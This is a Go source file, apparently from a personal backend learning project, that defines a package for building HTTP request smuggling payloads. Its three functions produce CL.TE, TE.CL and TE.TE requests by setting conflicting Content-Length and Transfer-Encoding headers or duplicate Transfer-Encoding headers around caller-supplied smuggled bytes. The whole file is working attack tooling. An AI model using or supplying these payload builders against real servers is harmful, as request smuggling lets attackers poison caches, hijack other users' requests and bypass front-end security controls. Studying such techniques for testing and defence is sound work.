// Package smuggling builds the three classic HTTP Request Smuggling
// payload shapes — CL.TE, TE.CL, TE.TE — atop httpreq and chunked. Each
// recipe deliberately desynchronizes how a front-end and back-end server
// would frame the same bytes.
package smuggling

import (
	"strconv"

	"github.com/lirlia/100day_challenge_backend/day69_haquests/internal/pkg/chunked"
	"github.com/lirlia/100day_challenge_backend/day69_haquests/internal/pkg/httpreq"
)

// BuildCLTE produces a request a front-end honoring Content-Length will
// forward whole, while a back-end honoring Transfer-Encoding stops at the
// first chunk boundary: Content-Length is set to len(smuggled), and the
// body is the smuggled bytes verbatim (not chunk-encoded).
func BuildCLTE(url string, smuggled []byte) *httpreq.Request {
	r := httpreq.New("POST", url)
	r.SetHeader("Content-Length", strconv.Itoa(len(smuggled)))
	r.SetHeader("Transfer-Encoding", "chunked")
	r.Body = smuggled
	return r
}

// BuildTECL produces the inverse: a front-end honoring Transfer-Encoding
// forwards the chunk-encoded body, while a back-end honoring Content-Length
// (here declared 0) stops immediately and treats the chunk framing as the
// start of a second, smuggled request.
func BuildTECL(url string, smuggled []byte) *httpreq.Request {
	r := httpreq.New("POST", url)
	r.SetHeader("Transfer-Encoding", "chunked")
	r.SetHeader("Content-Length", "0")
	r.Body = chunked.Encode(smuggled)
	return r
}

// BuildTETE adds a second, conflicting Transfer-Encoding header (the
// duplicate itself is the attack surface — a proxy chain that each
// honors a different one of the two disagrees about framing) and chunk-
// encodes the body as in TE.CL.
func BuildTETE(url string, smuggled []byte) *httpreq.Request {
	r := httpreq.New("POST", url)
	r.SetHeader("Transfer-Encoding", "chunked")
	r.AddHeader("Transfer-Encoding", "identity")
	r.Body = chunked.Encode(smuggled)
	return r
}
